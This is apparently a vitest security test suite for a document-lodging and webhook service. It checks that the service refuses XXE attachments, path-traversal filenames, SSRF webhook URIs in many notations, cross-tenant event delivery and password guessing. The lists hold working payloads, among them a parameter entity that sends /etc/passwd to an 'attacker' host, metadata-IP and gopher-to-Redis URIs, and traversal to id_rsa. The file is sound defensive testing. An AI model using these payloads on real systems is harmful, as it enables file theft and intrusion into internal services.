/**
 * Attacks through the service's inputs beyond the token: XML attachments that try external
 * entities, entity expansion or XInclude in every disguise we know; attachment names that try to
 * be paths (encoded, doubly encoded, overlong UTF-8, Windows, NUL, look-alike characters);
 * webhook uris that point at metadata, link-local, loopback or private addresses in every
 * notation, or that redirect there; triggered events that try to reach another white label's
 * receivers; and password guessing on the token endpoint. The existing
 * fixtures (test/cases/lodging, test/service/events-subscriptions) cover the plain forms; these
 * are the systematic lists.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer, request as httpRequest, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { basic, call, getToken, startTestService, type TestService } from '../support/service.js';
import { createMessage, createProcess, LODGING, messagePath, rawUpload, upload } from '../service/lodging-support.js';

let svc: TestService;
let token: string;
let pid: string;
let mid: string;

beforeAll(async () => {
  svc = await startTestService({ webhookMaxAttempts: 1, webhookRetryBaseMs: 10, webhookPollMs: 20, webhookTimeoutMs: 2000 });
  token = await getToken(svc.url);
  pid = await createProcess(svc.url, token);
  mid = await createMessage(svc.url, token, pid);
});
afterAll(async () => svc?.dispose());

const NS = 'urn:stagecoach:lodging:2022.1';
const attachments = async () =>
  (await call(svc.url, token, 'GET', messagePath(pid, mid), { headers: LODGING })).body.attachments as Array<{
    fileName: string;
    size: number;
  }>;

describe('XML attachments that try entities, DTDs or inclusion', () => {
  const xxe = (doctype: string, body = '<a>&x;</a>') => `<?xml version="1.0" encoding="UTF-8"?>\n${doctype}\n${body}\n`;
  // name, document bytes, expected code
  const cases: Array<[string, Buffer, string]> = [
    [
      'a parameter entity fetching a remote DTD',
      Buffer.from(xxe('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://169.254.169.254/evil.dtd"> %p;]>')),
      'ATTACHMENT_FORBIDDEN_DTD',
    ],
    [
      'a parameter entity exfiltrating a file',
      Buffer.from(
        xxe('<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY x SYSTEM \'http://attacker/?%f;\'>"> %e;]>'),
      ),
      'ATTACHMENT_FORBIDDEN_DTD',
    ],
    [
      'quadratic blow-up (one big entity used many times)',
      Buffer.from(xxe(`<!DOCTYPE a [<!ENTITY x "${'A'.repeat(50_000)}">]>`, `<a>${'&x;'.repeat(1000)}</a>`)),
      'ATTACHMENT_FORBIDDEN_DTD',
    ],
    [
      'a DOCTYPE after a comment',
      Buffer.from(`<?xml version="1.0"?>\n<!-- harmless -->\n<!DOCTYPE a SYSTEM "file:///etc/passwd">\n<a/>\n`),
      'ATTACHMENT_FORBIDDEN_DTD',
    ],
    [
      'a DOCTYPE after a processing instruction and blank lines',
      Buffer.from(`<?xml version="1.0"?>\n<?pi data?>\n\n\n<!doctype a [<!entity x SYSTEM "file:///etc/hosts">]>\n<a>&x;</a>\n`),
      'ATTACHMENT_FORBIDDEN_DTD',
    ],
    [
      'a DOCTYPE with white space after <!',
      Buffer.from(`<?xml version="1.0"?>\n<!\n  DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<a>&x;</a>\n`),
      'ATTACHMENT_FORBIDDEN_DTD',
    ],
    [
      'a DOCTYPE behind a UTF-8 byte-order mark',
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(xxe('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))]),
      'ATTACHMENT_FORBIDDEN_DTD',
    ],
    [
      'UTF-16LE with a byte-order mark',
      Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(xxe('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace('UTF-8', 'UTF-16'), 'utf16le'),
      ]),
      'ATTACHMENT_MALFORMED_XML',
    ],
    [
      'UTF-16BE with a byte-order mark',
      Buffer.concat([
        Buffer.from([0xfe, 0xff]),
        Buffer.from(xxe('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace('UTF-8', 'UTF-16'), 'utf16le').swap16(),
      ]),
      'ATTACHMENT_MALFORMED_XML',
    ],
    [
      'UTF-16LE without a byte-order mark',
      Buffer.from(xxe('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace('UTF-8', 'UTF-16'), 'utf16le'),
      'ATTACHMENT_MALFORMED_XML',
    ],
    [
      'UTF-32 without a byte-order mark',
      Buffer.from(Array.from(xxe('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>')).flatMap((c) => [c.charCodeAt(0), 0, 0, 0])),
      'ATTACHMENT_MALFORMED_XML',
    ],
    [
      'UTF-7 (a DOCTYPE the byte scan cannot see)',
      Buffer.from(
        `<?xml version="1.0" encoding="UTF-7"?>\n+ADw-!DOCTYPE a +AFs-+ADw-!ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-\n+ADw-a+AD4-+ACY-x;+ADw-/a+AD4-\n`,
      ),
      'ATTACHMENT_MALFORMED_XML',
    ],
    [
      'EBCDIC (IBM037) declared',
      Buffer.concat([Buffer.from([0x4c, 0x6f, 0xa7, 0x94, 0x93]), Buffer.from(' version="1.0" encoding="IBM037"?>')]),
      'ATTACHMENT_MALFORMED_XML',
    ],
    [
      'an overlong UTF-8 "<" before !DOCTYPE',
      Buffer.concat([
        Buffer.from('<?xml version="1.0"?>\n'),
        Buffer.from([0xc0, 0xbc]),
        Buffer.from('!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<a/>\n'),
      ]),
      'ATTACHMENT_FORBIDDEN_DTD',
    ],
    [
      'an entity reference to an undeclared external entity',
      Buffer.from(`<?xml version="1.0"?>\n<a>&xxe;</a>\n`),
      'ATTACHMENT_MALFORMED_XML',
    ],
    [
      'XInclude of /etc/passwd in a well-known file',
      Buffer.from(
        `<?xml version="1.0"?>\n<CleanOrderFinancingRequest xmlns="${NS}" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></CleanOrderFinancingRequest>\n`,
      ),
      'ATTACHMENT_SCHEMA_VIOLATION',
    ],
  ];

  it.each(cases)('refuses %s before anything is read or stored', async (_name, bytes, code) => {
    const before = await attachments();
    const res = await upload(svc.url, token, pid, mid, 'CleanOrderFinancingRequest.xml', bytes, 'application/xml');
    expect([res.status, res.body.code]).toEqual([422, code]);
    expect(res.body.detail).not.toMatch(/root:|localhost|127\.0\.0\.1\s/);
    expect(await attachments()).toEqual(before);
  });

  it('stores XInclude in a supporting XML file as bytes, never expanded', async () => {
    const doc = Buffer.from(
      `<?xml version="1.0"?>\n<note xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></note>\n`,
    );
    const res = await upload(svc.url, token, pid, mid, 'Note.xml', doc, 'application/xml');
    expect(res.status).toBe(204);
    expect((await attachments()).find((a) => a.fileName === 'Note.xml')?.size).toBe(doc.length);
  });
});

describe('attachment names that try to be paths', () => {
  // as sent on the wire (percent-encoded); each is refused with 400: ATTACHMENT_INVALID_NAME from
  // the route, or INVALID_REQUEST before routing for a path that is not valid percent-encoding
  const names = [
    '..%2fsecret.pdf',
    '..%2F..%2F..%2Fetc%2Fpasswd',
    '%2e%2e%2fsecret.pdf',
    '%2e%2e/secret.pdf',
    '.%2e%2fsecret.pdf',
    '%252e%252e%252fsecret.pdf',
    '%25252e%25252e%25252fsecret.pdf',
    '%c0%ae%c0%ae%c0%afsecret.pdf',
    '%c0%2e%c0%2e%c0%2fsecret.pdf',
    '%e0%80%ae%e0%80%aesecret.pdf',
    '%c1%9csecret.pdf',
    'C%3A%5CWindows%5Cwin.ini',
    '%5C%5Cserver%5Cshare%5Cx.pdf',
    '..%5Csecret.pdf',
    'C:secret.pdf',
    'secret.pdf%3A%3A%24DATA',
    'file.pdf%3Azone.identifier',
    'secret.pdf%00.xml',
    '%00',
    'secret%00',
    'report.pdf%0d%0aSet-Cookie%3A%20x',
    'tab%09name.pdf',
    'CON.pdf',
    'nul.txt',
    'COM1.xml',
    'LPT9.pdf',
    'aux.png',
    '%ef%bc%8f..%ef%bc%8fsecret.pdf',
    'a%ef%bc%8fb.pdf',
    'a%e2%88%95b.pdf',
    'a%ef%bc%bcb.pdf',
    'invoice%e2%80%aefdp.exe',
    'report%e2%80%8b.pdf',
    '%e2%80%8fname.pdf',
    'report.pdf.',
    'report.pdf%20',
    '%20report.pdf',
    '.htaccess',
    '~%2f.ssh%2fid_rsa',
  ];

  it.each(names)('refuses %s', async (encoded) => {
    const before = await attachments();
    const res = await rawUpload(svc.url, token, `${messagePath(pid, mid)}/attachments/${encoded}`);
    expect(res.status).toBe(400);
    expect(['ATTACHMENT_INVALID_NAME', 'INVALID_REQUEST']).toContain(res.body.code);
    expect(await attachments()).toEqual(before);
  });
});

describe('webhook uris that point inside', () => {
  const refused = async (uri: string, svcUrl = svc.url, t = token) => {
    const res = await call(svcUrl, t, 'POST', '/counterparty-management/events/counterparty.merged/endpoints', { body: { uri } });
    return [uri, res.status, res.body?.code];
  };
  const METADATA = [
    'http://169.254.169.254/latest/meta-data/',
    'http://2852039166/',
    'http://0251.0376.0251.0376/',
    'http://0xa9fea9fe/',
    'http://0xA9.0xFE.0xA9.0xFE/',
    'http://169.254.43518/',
    'http://169.16689662/',
    'http://0251.254.169.254/',
    'http://[::ffff:169.254.169.254]/',
    'http://[::ffff:a9fe:a9fe]/',
    'http://[0:0:0:0:0:ffff:a9fe:a9fe]/',
    'http://[::169.254.169.254]/',
    'http://[::a9fe:a9fe]/',
    'http://[64:ff9b::a9fe:a9fe]/',
    'http://[2002:a9fe:a9fe::1]/',
    'http://[fd00:ec2::254]/',
    'http://metadata.google.internal./',
    'http://METADATA.GOOGLE.INTERNAL/',
    'HTTP://169.254.169.254/',
    'http://169.254.169.254.:80/',
    'http://169.254.169\t.254/',
    ' http://169.254.169.254/',
    'http://169。254。169。254/',
    'http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/',
  ];
  const LINK_LOCAL_AND_OTHERS = [
    'http://169.254.0.1/',
    'http://[fe80::1]/',
    'http://[fe80::1%25eth0]/',
    'http://[febf::1]/',
    'http://0/',
    'http://0.0.0.0/',
    'http://[::]/',
    'http://255.255.255.255/',
    'http://224.0.0.251/',
    'http://[ff02::1]/',
    'http://192.0.2.1/',
    'http://[2001:db8::1]/',
    'http://240.0.0.1/',
  ];
  const PRIVATE = [
    'http://10.0.0.1/',
    'http://10.255.255.255/',
    'http://172.16.0.1/',
    'http://172.31.255.255/',
    'http://192.168.0.1/',
    'http://0xc0a80001/',
    'http://3232235521/',
    'http://100.64.0.1/',
    'http://198.18.0.1/',
    'http://[fc00::1]/',
    'http://[fd12:3456::1]/',
    'http://[::ffff:10.0.0.1]/',
    'http://[::ffff:192.168.0.1]/',
  ];
  // Teredo and local-use NAT64 carrying metadata, loopback, private and public IPv4 addresses: refused as whole ranges
  const TUNNEL = [
    'http://[2001:0:4136:e378:8000:63bf:5601:5601]/',
    'http://[2001:0:a9fe:a9fe:8000:63bf:3fff:fdd2]/',
    'http://[2001:0:4136:e378:8000:63bf:80ff:fffe]/',
    'http://[2001:0:4136:e378:8000:63bf:f5ff:fffe]/',
    'http://[2001:0000:4136:e378:8000:63bf:3fff:fdd2]/',
    'http://[2001::1]/',
    'http://[64:ff9b:1::a9fe:a9fe]/',
    'http://[64:ff9b:1::169.254.169.254]/',
    'http://[64:ff9b:1:a9fe:a9:fe00::]/',
    'http://[64:ff9b:1:7f00:0:100::]/',
    'http://[64:ff9b:1::a00:1]/',
    'http://[64:ff9b:1::808:808]/',
  ];
  const USERINFO = [
    'http://allowed.example.com@169.254.169.254/',
    'http://127.0.0.1:9@169.254.169.254/',
    'http://user:pass@127.0.0.1:9/',
    'http://%31%36%39.254.169.254@127.0.0.1:9/',
  ];
  const SCHEMES = [
    'file:///etc/passwd',
    'gopher://127.0.0.1:6379/_INFO',
    'dict://127.0.0.1:11211/',
    'ftp://127.0.0.1/',
    'ldap://127.0.0.1/',
    'javascript:alert(1)',
    'data:text/plain,x',
    'http:/169.254.169.254',
    '//169.254.169.254/',
    'http://',
  ];

  it.each([...METADATA, ...LINK_LOCAL_AND_OTHERS, ...PRIVATE, ...TUNNEL, ...USERINFO, ...SCHEMES])(
    'refuses %s with 422 WEBHOOK_URI_REFUSED',
    async (uri) => {
      expect(await refused(uri)).toEqual([uri, 422, 'WEBHOOK_URI_REFUSED']);
    },
  );

  it('refuses every loopback spelling when loopback receivers are off, and accepts none of them', async () => {
    const strict = await startTestService({ allowLoopbackWebhooks: false });
    try {
      const t = await getToken(strict.url);
      const LOOPBACK = [
        'http://127.0.0.1:9/',
        'http://127.1:9/',
        'http://2130706433:9/',
        'http://0x7f000001:9/',
        'http://0177.0.0.1:9/',
        'http://127.255.255.254:9/',
        'http://localhost:9/',
        'http://localhost.:9/',
        'http://LOCALHOST:9/',
        'http://[::1]:9/',
        'http://[0:0:0:0:0:0:0:1]:9/',
        'http://[::ffff:127.0.0.1]:9/',
        'http://[::ffff:7f00:1]:9/',
        'http://[::127.0.0.1]:9/',
      ];
      for (const uri of LOOPBACK) expect(await refused(uri, strict.url, t)).toEqual([uri, 422, 'WEBHOOK_URI_REFUSED']);
    } finally {
      await strict.dispose();
    }
  });

  it('does not follow a redirect from an allowed receiver to a metadata or internal address', async () => {
    let internalHits = 0;
    const internal: Server = createServer((_req, res) => {
      internalHits++;
      res.end('secret');
    });
    await new Promise<void>((r) => internal.listen(0, '127.0.0.1', r));
    const internalUrl = `http://127.0.0.1:${(internal.address() as AddressInfo).port}/latest/meta-data`;
    let receiverHits = 0;
    const receiver: Server = createServer((req, res) => {
      receiverHits++;
      req.resume();
      res.writeHead(302, { location: receiverHits % 2 ? 'http://169.254.169.254/latest/meta-data/iam' : internalUrl }).end();
    });
    await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
    try {
      const base = '/counterparty-management/events/counterparty.merged';
      const reg = (
        await call(svc.url, token, 'POST', `${base}/endpoints`, {
          body: { uri: `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/hook` },
        })
      ).body;
      for (let i = 0; i < 2; i++) expect((await call(svc.url, token, 'POST', `${base}/trigger`)).status).toBe(202);
      let page: { items: Array<{ status: string; attemptLog: Array<{ statusCode: number; error: string }> }> } = { items: [] };
      for (let i = 0; i < 200 && page.items.filter((d) => d.status !== 'pending').length < 2; i++) {
        await new Promise((r) => setTimeout(r, 25));
        page = (await call(svc.url, token, 'GET', `${base}/endpoints/${reg.id}/deliveries`)).body;
      }
      expect(page.items.map((d) => d.status)).toEqual(['failed', 'failed']);
      const errors = page.items.map((d) => d.attemptLog[0]!.error).sort();
      expect(errors).toEqual(
        [`redirect to ${internalUrl} not followed`, 'redirect to http://169.254.169.254/latest/meta-data/iam not followed'].sort(),
      );
      expect([receiverHits, internalHits]).toEqual([2, 0]);
    } finally {
      receiver.close();
      internal.close();
    }
  });
});

describe("triggered events stay within the caller's white label", () => {
  it("delivers a demo-label-2 trigger to none of demo-label's receivers, and a demo-label trigger to demo-label's", async () => {
    const received: Array<{
      path: string;
      token: string | undefined;
      eventId: string | undefined;
      body: { id: string; data: Record<string, unknown> };
    }> = [];
    const receiver: Server = createServer((req, res) => {
      let text = '';
      req.setEncoding('utf8');
      req.on('data', (c: string) => (text += c));
      req.on('end', () => {
        received.push({
          path: req.url ?? '',
          token: req.headers['x-event-token'] as string | undefined,
          eventId: req.headers['x-event-id'] as string | undefined,
          body: JSON.parse(text),
        });
        res.end('ok');
      });
    });
    await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
    const rx = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`;
    const label2 = await getToken(svc.url, {
      clientId: 'demo-client',
      secret: 'demo-secret',
      broker: 'demo-broker',
      label: 'demo-label-2',
    });
    const deliveries = async (base: string, id: string, t: string) =>
      (await call(svc.url, t, 'GET', `${base}/endpoints/${id}/deliveries`)).body as {
        total: number;
        items: Array<{ eventId: string; status: string }>;
      };
    const settled = async (base: string, id: string, t: string, eventId: string) => {
      for (let i = 0; i < 200; i++) {
        const page = await deliveries(base, id, t);
        const d = page.items.find((x) => x.eventId === eventId);
        if (d && d.status !== 'pending') return d.status;
        await new Promise((r) => setTimeout(r, 25));
      }
      throw new Error(`delivery of event ${eventId} to registration ${id} did not settle`);
    };
    try {
      // one event of each group: counterparty events otherwise carry no white label at all
      for (const [group, event] of [
        ['counterparty-management', 'counterparty_operational.consolidated'],
        ['lodging', 'lodging.message.handling_failed'],
        ['process-orchestration', 'process.status-changed'],
      ] as const) {
        const base = `/${group}/events/${event}`;
        const mine = (await call(svc.url, token, 'POST', `${base}/endpoints`, { body: { uri: `${rx}/demo-label/${event}` } })).body as {
          id: string;
          token: string;
        };
        const theirs = (await call(svc.url, label2, 'POST', `${base}/endpoints`, { body: { uri: `${rx}/demo-label-2/${event}` } }))
          .body as { id: string; token: string };

        const forged = await call(svc.url, label2, 'POST', `${base}/trigger`, { body: { forged: true } });
        expect(forged.status).toBe(202);
        // demo-label-2's own delivery settling means the event was fanned out (one transaction)
        expect(await settled(base, theirs.id, label2, forged.body.id)).toBe('delivered');
        expect((await deliveries(base, mine.id, token)).total).toBe(0);
        expect(received.filter((r) => r.path === `/demo-label/${event}`)).toEqual([]);
        expect(received.filter((r) => r.eventId === forged.body.id).map((r) => [r.path, r.token])).toEqual([
          [`/demo-label-2/${event}`, theirs.token],
        ]);

        const own = await call(svc.url, token, 'POST', `${base}/trigger`, { body: { own: true } });
        expect(own.status).toBe(202);
        expect(await settled(base, mine.id, token, own.body.id)).toBe('delivered');
        expect(received.filter((r) => r.eventId === own.body.id).map((r) => [r.path, r.token, r.body.id, r.body.data])).toEqual([
          [`/demo-label/${event}`, mine.token, own.body.id, { own: true }],
        ]);
        expect((await deliveries(base, theirs.id, label2)).items.map((d) => d.eventId)).toEqual([forged.body.id]);
      }
    } finally {
      receiver.close();
    }
  });
});

describe('password guessing on the token endpoint', () => {
  const tokenPath = '/authentication/token/demo-broker/demo-label';
  /** A token request from a chosen local address (the whole 127/8 is loopback). */
  const fromAddress = (localAddress: string, authorization: string) =>
    new Promise<{ status: number; retryAfter: string | undefined; body: string }>((resolve, reject) => {
      const { hostname, port } = new URL(svc.url);
      const req = httpRequest({ hostname, port, path: tokenPath, localAddress, headers: { authorization } }, (res) => {
        let body = '';
        res.on('data', (d) => (body += d));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, retryAfter: res.headers['retry-after'] as string | undefined, body }));
      });
      req.on('error', reject);
      req.end();
    });

  it('locks a client out from one address after 10 failures (429 with Retry-After, even for the right secret), and no other client or address', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 12; i++) statuses.push((await fromAddress('127.0.0.1', basic('demo-client', `guess-${i}`))).status);
    expect(statuses).toEqual([...Array<number>(10).fill(401), 429, 429]);
    const locked = await fromAddress('127.0.0.1', basic('demo-client', 'demo-secret'));
    expect(locked.status).toBe(429);
    expect(Number(locked.retryAfter)).toBeGreaterThan(0);
    expect(Number(locked.retryAfter)).toBeLessThanOrEqual(60);
    expect(JSON.parse(locked.body)).toMatchObject({ status: 429, code: 'TOO_MANY_ATTEMPTS' });
    // the same client from another address, and another client from the same address
    expect((await fromAddress('127.0.0.2', basic('demo-client', 'demo-secret'))).status).toBe(200);
    expect((await fromAddress('127.0.0.1', basic('scoped-client', 'scoped-secret'))).status).toBe(200);
  });

  it('counts malformed Basic headers as failures too', async () => {
    const garbage = [
      'Basic',
      'Basic !!!',
      `Basic ${Buffer.from('no-colon').toString('base64')}`,
      'Bearer x',
      'Basic ' + 'A'.repeat(10_000),
    ];
    const statuses: number[] = [];
    for (let i = 0; i < 12; i++) statuses.push((await fromAddress('127.0.0.3', garbage[i % garbage.length]!)).status);
    expect(statuses.slice(0, 10).every((s) => s === 401)).toBe(true);
    expect(statuses.slice(10)).toEqual([429, 429]);
  });
});
